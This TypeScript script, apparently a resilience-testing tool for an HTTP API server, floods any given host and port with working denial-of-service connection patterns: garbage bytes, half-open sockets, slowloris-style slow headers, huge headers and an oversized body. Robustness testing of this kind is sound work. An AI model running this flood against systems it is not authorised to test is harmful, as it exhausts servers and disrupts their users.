// Hostile clients: `node flood.ts MILLIS PROTOCOL://HOST:PORT ...` keeps connections of every kind open to each port,
// and prints how many there were.
import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';

/** Connections of each kind to each port at a time. */
const CONNECTIONS = 20;
/** Milliseconds between two writes, and before a closed connection is opened again. */
const PAUSE = 200;
const HEAD = 'POST /chat/completions HTTP/1.1\r\nhost: x\r\n';
const PIECE = Buffer.alloc(64 * 1024, 'x');

interface Kind {
  /** Speaks TLS where the port does; else sends its bytes as they are. */
  readonly isHttp: boolean;
  /** The bytes to write next; none: says nothing. */
  readonly next: (count: number) => Buffer | string | undefined;
}

const KINDS: Readonly<Record<string, Kind>> = {
  garbage: { isHttp: false, next: () => crypto.getRandomValues(Buffer.alloc(512)) },
  halfOpen: { isHttp: false, next: () => undefined },
  slowHeaders: { isHttp: true, next: (count) => (count === 0 ? HEAD : 'x') },
  hugeHeaders: { isHttp: true, next: (count) => (count === 0 ? HEAD : `x-${count}: ${PIECE}\r\n`) },
  oversizedBody: {
    isHttp: true,
    next: (count) => (count === 0 ? `${HEAD}content-length: 99999999999\r\n\r\n` : PIECE),
  },
};

if (import.meta.main) {
  const [millis, ...targets] = process.argv.slice(2);
  const end = Date.now() + Number(millis);
  const counts: Record<string, number> = {};
  for (const target of targets)
    for (const [name, kind] of Object.entries(KINDS))
      for (let index = 0; index < CONNECTIONS; index += 1) attack(target, kind, () => count(counts, name, end));
  setTimeout(() => {
    process.stdout.write(`${JSON.stringify(counts)}\n`);
    process.exit(0);
  }, Number(millis));
}

/** False when the flood is over. */
function count(counts: Record<string, number>, name: string, end: number): boolean {
  counts[name] = (counts[name] ?? 0) + 1;
  return Date.now() < end;
}

function attack(target: string, kind: Kind, isRunning: () => boolean): void {
  if (!isRunning()) return;
  const { protocol, hostname: host, port } = new URL(target);
  const to = { host, port: Number(port) };
  const isTls = protocol === 'https:' && kind.isHttp;
  const socket: Socket = isTls ? connectTls({ ...to, rejectUnauthorized: false }) : connect(to);
  let writes = 0;
  const writing = setInterval(() => {
    if (socket.connecting || socket.writableNeedDrain || socket.destroyed) return;
    const bytes = kind.next(writes++);
    if (bytes !== undefined) socket.write(bytes);
  }, PAUSE);
  socket.on('error', () => undefined).resume();
  socket.once('close', () => {
    clearInterval(writing);
    setTimeout(() => attack(target, kind, isRunning), PAUSE);
  });
}
